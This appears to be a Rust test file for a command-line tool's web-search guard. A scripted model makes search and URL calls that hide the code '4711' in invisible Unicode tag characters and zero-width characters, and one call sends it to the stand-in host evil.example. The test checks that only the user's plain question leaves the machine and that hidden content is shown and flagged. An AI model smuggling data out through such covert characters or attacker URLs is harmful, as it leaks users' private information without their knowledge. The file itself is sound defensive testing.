//! What `ask` sends to the web, with the scripted model server and a recording search server.

use parking_lot::Mutex;
use std::{
    io::{BufRead, BufReader, Read, Write},
    net::{TcpListener, TcpStream},
    sync::Arc,
};

use serde_json::{Value, json};
use tests::model_server::{ListedModel, Rule, Script, ScriptedCall, ScriptedServer};

use crate::talk::{place, run};

/// A SearXNG server that finds one page for everything, and the forms it received.
fn search_server() -> (String, Arc<Mutex<Vec<String>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = format!("http://{}", listener.local_addr().unwrap());
    let asked = Arc::new(Mutex::new(Vec::new()));
    let kept = asked.clone();
    std::thread::spawn(move || {
        for connection in listener.incoming() {
            answer(connection.unwrap(), &kept);
        }
    });
    (address, asked)
}

/// Records a request's form, and answers with a page.
fn answer(connection: TcpStream, asked: &Mutex<Vec<String>>) {
    let mut reader = BufReader::new(connection);
    let mut length = 0;
    loop {
        let mut line = String::new();
        reader.read_line(&mut line).unwrap();
        let line = line.trim().to_lowercase();
        if line.is_empty() {
            break;
        }
        if let Some(value) = line.strip_prefix("content-length:") {
            length = value.trim().parse().unwrap();
        }
    }
    let mut form = vec![0; length];
    reader.read_exact(&mut form).unwrap();
    asked.lock().push(String::from_utf8(form).unwrap());
    let found = json!({"results": [
        {"url": "https://mill.example/salt", "title": "Salt", "content": "Salt keeps for ever."},
    ]});
    let body = found.to_string();
    let head = "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\nconnection: close";
    let mut connection = reader.into_inner();
    write!(connection, "{head}\r\ncontent-length: {}\r\n\r\n{body}", body.len()).unwrap();
}

fn call(name: &str, arguments: Value) -> ScriptedCall {
    ScriptedCall { name: name.to_owned(), arguments }
}

// B81 B90
#[test]
fn only_the_question_itself_leaves_where_nobody_is_asked() {
    let (folder, (searched, asked)) = (place(), search_server());
    let question = "How much salt?";
    // “4711” in invisible letters.
    let tags = "\u{e0034}\u{e0037}\u{e0031}\u{e0031}";
    let calls = vec![
        call("web_search", json!({"query": format!("{question}{tags}")})),
        call("web_search", json!({"query": "how MUCH salt salt"})),
        call("web_search", json!({"query": "salt"})),
        call("web_search", json!({"query": format!("cellar{tags} co\u{200b}de ⡴\u{2800}")})),
        call("open_url", json!({"url": "https://mill.example/salt"})),
        call("open_url", json!({"url": "http://evil.example/?q=4711"})),
    ];
    let model = ListedModel {
        name: "scripted".to_owned(),
        window: Some(64_000),
        tools: Some(true),
        ..ListedModel::default()
    };
    let script = Script {
        models: vec![model],
        rules: vec![Rule { calls, times: Some(1), ..Rule::default() }],
        default: Rule { pieces: Some(vec!["Two per cent [1].".to_owned()]), ..Rule::default() },
        ..Script::default()
    };
    let server = futures::executor::block_on(ScriptedServer::start(script)).unwrap();
    let (code, said, told) = run(&folder, &["web", &searched, "--ask", "once"], "");
    assert_eq!(code, Some(0), "{told}");
    assert!(said.contains("before each query that the model chooses"), "{said}");

    let args =
        ["ask", "vault", question, "--mode", "both", "--allow-web", "--server", &server.url()];
    let (code, said, told) = run(&folder, &args, "");
    assert_eq!(code, Some(0), "{told}");
    assert!(said.contains("Two per cent"), "{said}");
    assert_eq!(*asked.lock(), ["q=How+much+salt%3F&format=json"], "{told}");
    // The output shows what would have left, not the model's version.
    let to = format!("To SearXNG at {searched}");
    for shown in [
        &format!("{to}: “{question}”"),
        &format!("{to}: “salt”"),
        &format!("{to}: “cellar code ⡴”"),
        "To mill.example: https://mill.example/salt",
        "To evil.example: http://evil.example/?q=4711",
    ] {
        assert!(told.contains(shown), "{shown}: {told}");
    }
    assert_eq!(told.matches("nobody is here to confirm it.").count(), 4, "{told}");
    assert_eq!(told.matches(&to).count(), 3, "{told}");
}
